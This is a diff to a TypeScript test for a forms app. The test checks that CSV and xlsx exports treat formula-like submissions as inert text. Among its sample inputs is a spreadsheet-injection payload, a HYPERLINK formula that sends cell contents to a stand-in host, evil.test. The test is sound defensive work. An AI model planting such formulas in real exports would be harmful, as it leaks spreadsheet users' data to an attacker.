@@ -10,6 +10,7 @@ import type { FormField } from '@portico/contracts/formFields';
 import { formExportPath, formFilePath, formFileUrl, listFormEntries, listForms, submitEntry, type FormFile, type FormValues } from '@portico/contracts/forms';
 import { readFile } from '../../media/reading/readFile.ts';
 import { addFile } from '../../media/files.ts';
+import { openZip } from '../../media/zipArchive.ts';
 import { publish, saveDraft, unpublish } from '../../content/publication.ts';
 import { aForm } from '../../testing/aForm.ts';
 import { sharedPortal } from '../../testing/testPortal.ts';
@@ -32,6 +33,12 @@ function cellsOf(csv: string): string[][] {
     if (end === '\r\n') rows.push([]);
   }
   return rows.filter((row) => row.length > 0);
+}
+
+/** The cells of a workbook, as its XML. */
+async function sheetOf(workbook: Buffer): Promise<string> {
+  const archive = await openZip({ size: workbook.length, read: async (start, length) => workbook.subarray(start, start + length) });
+  return (await archive.unpack('xl/worksheets/sheet1.xml', 10_000_000)).toString();
 }
 
 const all: Parameters<typeof aForm>[0] = {
@@ -80,8 +87,13 @@ test('texts that a spreadsheet would take for formulas are harmless in it [FORM-
   for (const text of hostile) await send('ana', formId, { text: `${text} x` });
   const cells = cellsOf((await exported(formId, 'csv')).body);
   for (const row of cells) for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r\n＝＋－＠]/);
-  const xlsx = (await exported(formId, 'xlsx')).rawPayload.toString('latin1');
-  expect(xlsx).not.toContain('<f>');
+  // In a workbook texts are typed as such, whatever they begin with: there is no formula, and none of them is changed.
+  const sheet = await sheetOf((await exported(formId, 'xlsx')).rawPayload);
+  expect(sheet).not.toMatch(/<f[ >/]/);
+  const texts = [...sheet.matchAll(/<c [^>]*t="inlineStr"><is><t xml:space="preserve">([^<]*)<\/t><\/is><\/c>/g)].map(([, text]) => text);
+  expect(texts).toContain('=1+1 x');
+  expect(texts).toContain('=HYPERLINK("https://evil.test?"&amp;A1) x');
+  expect(sheet.replaceAll(/<c [^>]*t="inlineStr">.*?<\/c>/gs, '')).not.toContain('1+1');
 });
 
 test('the workbook is one that our own reader and others open, with numbers as numbers and texts as texts', async () => {
